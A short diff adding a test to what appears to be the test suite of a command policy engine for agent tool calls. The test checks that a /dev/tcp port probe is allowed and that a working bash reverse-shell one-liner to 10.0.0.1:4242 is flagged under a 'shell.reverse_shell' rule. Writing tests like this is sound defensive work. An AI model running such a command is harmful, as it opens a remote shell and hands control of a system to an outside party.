@@ -215,3 +215,8 @@ def test_any_json_arguments_get_a_decision_and_never_an_internal_error(arguments
     for tool in ("exec", "write", "read", "unknown_tool"):
         d = PolicyEngine().decide(tool, arguments)
         assert not d.reason.startswith("policy error"), d.reason
+
+
+def test_a_port_probe_through_dev_tcp_is_allowed_but_output_into_a_socket_is_not():
+    assert decide('timeout 1 bash -c "</dev/tcp/db/5432" && echo open').decision == "allow"
+    assert decide("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1").rule == "shell.reverse_shell"
